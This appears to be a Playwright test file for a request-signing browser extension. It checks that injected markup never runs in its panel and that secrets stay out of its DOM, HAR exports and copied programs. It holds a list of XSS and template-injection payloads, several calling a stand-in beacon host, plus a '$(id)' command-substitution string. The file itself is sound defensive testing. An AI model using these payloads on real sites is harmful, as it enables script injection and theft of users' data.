import { readFile } from "node:fs/promises";
import { expect, test } from "playwright/test";
import { openWorkplace } from "./copies/workplace.ts";
import type { Countersign } from "./fixtures.ts";
import { signingBrowser, startTestGateway, testCredentials } from "./gateway-browser.ts";
import { REST_API, urlOf } from "./gateway/apis.ts";
import type { Gateway } from "./gateway/gateway.ts";
import type { SiteRequest } from "./gateway/static-site.ts";
import { openPanel, type Panel } from "./pages/open-panel.ts";

const hostileOrigin = "https://hostile.example.test";
const beacon = "https://owned.example.test";
const run = `globalThis.owned=1;fetch('${beacon}/ran')`;
const apiKey = "planted-api-key-0123456789abcdef";

/** What has run as a script somewhere, or has asked somebody else for something. */
const injections: readonly string[] = [
  `<script>${run}</script>`,
  `"><script src="${beacon}/script"></script>`,
  `</pre></code></textarea></title><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `'"><img src="${beacon}/image">`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe><object data="${beacon}/object"></object>`,
  `<a id=link href="javascript:${run}">click</a><base href="${beacon}/">`,
  `<style>@import "${beacon}/style"; * { background: url(${beacon}/background) }</style>`,
  `<link rel=stylesheet href="${beacon}/link"><meta http-equiv=refresh content="0;url=${beacon}/refresh">`,
  `{{constructor.constructor("${run}")()}} \${${run}} <%= ${run} %>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `javascript:${run}//`,
  `</script><!--<script>--><template><script>${run}</script></template>`,
];

const types = ["text/html", "image/svg+xml", "application/json", "text/plain", "application/xml"];

/** A site that answers with what it is asked for. */
function hostileSite({ host, path, query }: SiteRequest) {
  const number = Number(path.split("/")[2]);
  const injection = injections[number];
  if (host !== "hostile.example.test" || injection === undefined) {
    return { body: "<!doctype html><title>A page</title>" };
  }
  const type = types[number % types.length] ?? "";
  const isJson = type === "application/json";
  const body = isJson ? JSON.stringify({ [injection]: [injection], q: query.get("q") }) : injection;
  return { headers: { "Content-Type": type, "X-Note": injection, Location: injection }, body };
}

let gateway: Gateway;
let browser: Countersign;
let panel: Panel;

test.beforeAll(async () => {
  gateway = await startTestGateway(hostileSite);
  const name = `<img src=x onerror="${run}">`;
  const scope = { service: "execute-api", region: "eu-central-1" };
  browser = await signingBrowser(gateway, {
    sourceName: name,
    rules: [
      { name, hosts: ["hostile.example.test"], scope },
      { name: "Orders", hosts: [REST_API.host], callers: [hostileOrigin] },
    ],
  });
  const { page } = browser;
  await page.goto(hostileOrigin);
  await page.evaluate(sendInjections, injections);
  await page.evaluate(sendOrders, {
    url: urlOf(REST_API, "/orders/1?b=2&a=1"),
    key: apiKey,
    token: testCredentials.sessionToken,
  });
  // The gateway then quotes the canonical request, and in it the token.
  gateway.setIdentities([{ ...testCredentials, secretAccessKey: "another/secret" }]);
  await page.evaluate((url) => fetch(url).catch(() => 0), urlOf(REST_API, "/refused"));
  gateway.setIdentities([testCredentials]);
  await browser.context.grantPermissions(["clipboard-read", "clipboard-write"]);
  panel = await openPanel(browser.context, browser.extensionId);
});

test.afterAll(async () => {
  await browser.close();
  await gateway.close();
});

/** Runs in the page. */
async function sendInjections(all: readonly string[]): Promise<void> {
  for (const [number, injection] of all.entries()) {
    await fetch(`/x/${number}/${injection}?q=${encodeURIComponent(injection)}&${injection}`, {
      method: "POST",
      headers: { "x-note": injection, "content-type": "text/html" },
      body: injection,
      redirect: "manual",
    }).catch(() => 0);
  }
}

/** Runs in the page. */
async function sendOrders(order: { url: string; key: string; token: string }): Promise<void> {
  await fetch(order.url, {
    method: "POST",
    headers: { "content-type": "application/json", "x-api-key": order.key },
    body: JSON.stringify({ key: order.key, token: order.token, note: 'it\'s "$(id)"' }),
  }).catch(() => 0);
}

/** Runs in the panel: opens every part of every entry, and gives what is then shown. */
async function readEverything(urls: readonly (readonly [id: string, url: string])[]) {
  const painted = (): Promise<unknown> => new Promise((resolve) => requestAnimationFrame(resolve));
  const shown: string[] = [];
  for (const [id, url] of urls) {
    location.hash = `#entry=${id}`;
    const { pathname, search } = new URL(url);
    while (document.querySelector(".what code")?.textContent !== pathname + search) await painted();
    const tabs = document.querySelectorAll<HTMLElement>(".entry [role=tab]");
    for (const tab of tabs) {
      tab.click();
      await painted();
      await painted();
      shown.push(document.querySelector(".entry")?.outerHTML ?? "");
    }
  }
  return shown;
}

/** Pieces of a secret, as it is or as URLs write it, that are left in a text. */
function leftOf(secret: string, text: string): readonly string[] {
  const writings = [secret, encodeURIComponent(secret)];
  return writings.flatMap((writing) =>
    Array.from({ length: writing.length - 15 }, (_, at) => writing.slice(at, at + 16)).filter(
      (piece) => text.includes(piece),
    ),
  );
}

const { secretAccessKey, sessionToken } = testCredentials;
const secrets = { secretAccessKey, sessionToken, apiKey };

function expectNoSecret(text: string): void {
  for (const [name, secret] of Object.entries(secrets)) {
    expect({ name, left: leftOf(secret, text) }).toEqual({ name, left: [] });
  }
}

test("no script in a URL, header, body or name runs in the panel, and no secret is in its DOM", async () => {
  const { page } = panel;
  const trouble: string[] = [];
  page.on("dialog", (dialog) => trouble.push(dialog.message()));
  page.on("console", (message) => trouble.push(message.text()));
  const entries = await browser.entries();
  expect(entries.length).toBeGreaterThanOrEqual(injections.length + 2);
  const parts = await page.evaluate(
    readEverything,
    entries.map(({ id, url }) => [id, url] as const),
  );
  expect(parts.length).toBeGreaterThanOrEqual(entries.length * 4);
  const shown = [...parts, await page.content()].join("\n");
  // What was injected is read as text.
  expect(shown.match(/&lt;script&gt;globalThis\.owned/g)?.length).toBeGreaterThan(20);
  expect(await page.evaluate(() => "owned" in globalThis)).toBe(false);
  expect(trouble).toEqual([]);
  expect(gateway.requests.entries.filter(({ host }) => host === "owned.example.test")).toEqual([]);
  expectNoSecret(shown);
  expectNoSecret(JSON.stringify(entries));
  await page.evaluate(() => void (location.hash = ""));
});

test("the list is saved as a HAR file without a secret, and as a policy for what it shows", async () => {
  const { page } = panel;
  const exporting = page.getByRole("button", { name: "Export" });
  await exporting.click();
  const saving = page.waitForEvent("download");
  await page.getByRole("menuitem", { name: "HAR file, with bodies" }).click();
  const download = await saving;
  expect(download.suggestedFilename()).toMatch(/^countersign-.*\.har$/);
  const text = await readFile(await download.path(), "utf8");
  const { log } = JSON.parse(text) as { log: { entries: { request: { url: string } }[] } };
  const entries = await browser.entries();
  expect(log.entries.map(({ request }) => new URL(request.url).pathname)).toEqual(
    entries.map(({ url }) => new URL(url).pathname),
  );
  expectNoSecret(text);
  await expect(page.getByText(/^Saved \d+ entries as HAR/)).toBeVisible();

  await page.getByRole("searchbox", { name: "Search" }).fill("/orders/1");
  await exporting.press("ArrowDown");
  await expect(page.getByRole("group", { name: /^\d of \d+ entries, as filtered/ })).toBeVisible();
  await page.keyboard.press("End");
  await page.keyboard.press("Enter");
  await expect(page.getByText(/^Copied a policy that allows the one request/)).toBeVisible();
  const policy = await page.evaluate(() => navigator.clipboard.readText());
  expect(JSON.parse(policy)).toMatchObject({
    Statement: [
      { Resource: [`arn:aws:execute-api:${REST_API.region}:*:${REST_API.id}/prod/POST/orders/1`] },
    ],
  });
});

test("what is copied of an entry by the keyboard runs as it is, and is accepted", async () => {
  const { page } = panel;
  await panel.openEntry("/prod/orders/1");
  await page.getByRole("button", { name: "Copy as" }).press("ArrowDown");
  const choice = page.getByRole("menuitem", { name: "Node program" });
  await expect(page.getByRole("menuitem").first()).toBeFocused();
  for (let step = 0; step < 2; step += 1) await page.keyboard.press("ArrowDown");
  await expect(choice).toBeFocused();
  await page.keyboard.press("Enter");
  await expect(page.getByText(/^Copied a Node program/)).toBeVisible();
  await expect(page.getByRole("button", { name: "Copy as" })).toBeFocused();
  const program = await page.evaluate(() => navigator.clipboard.readText());
  expectNoSecret(program);

  const workplace = await openWorkplace(gateway, {
    HEADER_X_API_KEY: apiKey,
    BODY_SECRET: apiKey,
    BODY_SECRET_2: sessionToken,
  });
  gateway.requests.clear();
  const ran = await workplace.run(process.execPath, ["--input-type=module", "-"], program);
  await workplace.close();
  expect(ran).toMatchObject({ code: 0, errors: "" });
  expect(gateway.requests.entries[0]).toMatchObject({
    method: "POST",
    url: urlOf(REST_API, "/orders/1?b=2&a=1"),
    verdict: { kind: "accepted" },
  });
});
